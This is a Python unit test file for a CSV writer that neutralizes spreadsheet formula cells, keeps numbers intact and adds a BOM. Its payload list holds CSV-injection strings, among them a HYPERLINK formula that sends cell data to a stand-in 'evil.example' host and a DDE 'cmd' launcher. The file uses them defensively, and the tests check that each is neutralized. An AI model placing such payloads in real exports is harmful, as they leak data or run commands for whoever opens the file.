"""The one CSV writer: formula-like cells neutralized (OWASP), numbers kept, BOM for people."""

from __future__ import annotations

import csv
from pathlib import Path

import pandas as pd
import pytest

from etl.errors import GovbaseError
from etl.publish.csvfile import neutralize, write_csv

pytestmark = pytest.mark.unit

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点击")',
    "=cmd|' /C calc'!A0",
    "+SUM(1,2)",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    " =1+1",  # a spreadsheet that trims spaces would see the formula
    "＝1+1",  # full-width equals sign
    "-",
]


def _cells(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as fh:
        return list(csv.reader(fh))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_formula_payload_is_written_as_text(tmp_path: Path, payload: str) -> None:
    path = write_csv(pd.DataFrame({"value": [payload, "ok"]}), tmp_path / "out.csv")
    assert _cells(path) == [["value"], ["'" + payload], ["ok"]]  # one cell each: a CR is quoted too


@pytest.mark.parametrize("text", ["-12.5", "+86", "12", "-0.5e3", "张三", "a=b", "2026-11-01", ""])
def test_plain_text_and_numbers_written_as_text_stay_as_they_are(text: str) -> None:
    assert neutralize(pd.Series([text], dtype="string")).tolist() == [text]


def test_numeric_cells_stay_numbers_and_the_file_opens_in_excel(tmp_path: Path) -> None:
    df = pd.DataFrame({"row": [3, 4], "amount": [-12.5, 7.0], "name": ["张三", "=1+1"]})
    path = write_csv(df, tmp_path / "out.csv")
    assert path.read_bytes().startswith(b"\xef\xbb\xbf")  # UTF-8 BOM: Excel reads the Chinese right
    assert _cells(path) == [["row", "amount", "name"], ["3", "-12.5", "张三"], ["4", "7.0", "'=1+1"]]


def test_a_masked_value_beginning_like_a_formula_is_neutralized(tmp_path: Path) -> None:
    """Masking keeps the first character of a name: '=cmd…' masked is still a formula."""
    from etl.publish.masking import mask

    masked = mask(pd.Series(["=cmd|' /C calc'!A0", "-1+1"]), "name")
    assert masked.str.match(r"[=-]").all()  # the danger is real before writing
    path = write_csv(pd.DataFrame({"name": masked}), tmp_path / "out.csv")
    assert all(row[0].startswith("'") for row in _cells(path)[1:])


def test_a_header_beginning_like_a_formula_is_neutralized(tmp_path: Path) -> None:
    path = write_csv(pd.DataFrame({"=evil()": ["x"]}), tmp_path / "out.csv")
    assert _cells(path)[0] == ["'=evil()"]


def test_files_for_programs_are_never_altered_but_refuse_formulas(tmp_path: Path) -> None:
    ok = write_csv(pd.DataFrame({"code": ["01"], "name": ["汉族"]}), tmp_path / "ok.csv", audience="programs")
    assert ok.read_bytes() == "code,name\n01,汉族\n".encode()
    with pytest.raises(GovbaseError, match=r"bad\.csv: column name, row 2: '=1\+1'"):
        write_csv(pd.DataFrame({"name": ["x", "=1+1"]}), tmp_path / "bad.csv", audience="programs")


def test_a_file_that_cannot_be_written_is_a_clear_error(tmp_path: Path) -> None:
    with pytest.raises(GovbaseError, match=r"missing/out\.csv: cannot write the CSV file"):
        write_csv(pd.DataFrame({"a": ["x"]}), tmp_path / "missing" / "out.csv")
